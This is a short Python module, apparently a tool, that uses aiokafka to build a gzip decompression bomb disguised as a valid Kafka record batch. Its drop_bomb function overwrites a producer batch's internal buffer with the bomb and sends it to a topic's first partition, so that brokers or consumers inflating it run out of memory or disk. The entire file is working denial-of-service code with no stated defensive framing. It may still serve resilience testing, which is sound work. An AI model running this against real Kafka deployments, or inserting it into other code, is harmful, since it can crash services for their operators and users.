"""A batch of Kafka's that is small on the way and large once it is unpacked."""

import struct
import zlib
from typing import Any

from aiokafka import AIOKafkaProducer
from aiokafka.record.util import calc_crc32c

MEBI = 1 << 20
_GZIP = 1
_NULL, _ZERO = b"\x01", b"\x00"
"""Varints of -1 and 0."""


async def drop_bomb(producer: AIOKafkaProducer, topic: str, mebibytes: int) -> None:
    """One record of so much nothing, to the first partition. Raises what the producer does."""
    batch: Any = producer.create_batch()
    batch.append(timestamp=None, key=None, value=b"")
    batch.close()
    batch._buffer = bytearray(_bomb(mebibytes * MEBI))
    await (await producer.send_batch(batch, topic, partition=0))


def _bomb(size: int) -> bytes:
    head = _ZERO + _ZERO + _ZERO + _NULL + _varint(size)
    gzip = zlib.compressobj(9, wbits=31)
    packed = gzip.compress(_varint(len(head) + size + len(_ZERO)) + head)
    for _ in range(size // MEBI):
        packed += gzip.compress(bytes(MEBI))
    packed += gzip.compress(_ZERO) + gzip.flush()
    rest = struct.pack(">hiqqqhii", _GZIP, 0, 1, 1, -1, -1, -1, 1) + packed
    crc = calc_crc32c(rest)
    return struct.pack(">qiibI", 0, 9 + len(rest), -1, 2, crc) + rest


def _varint(number: int) -> bytes:
    """Kafka's, of a number that is not negative."""
    left, octets = number << 1, bytearray()
    while left > 0x7F:
        octets.append(left & 0x7F | 0x80)
        left >>= 7
    octets.append(left)
    return bytes(octets)
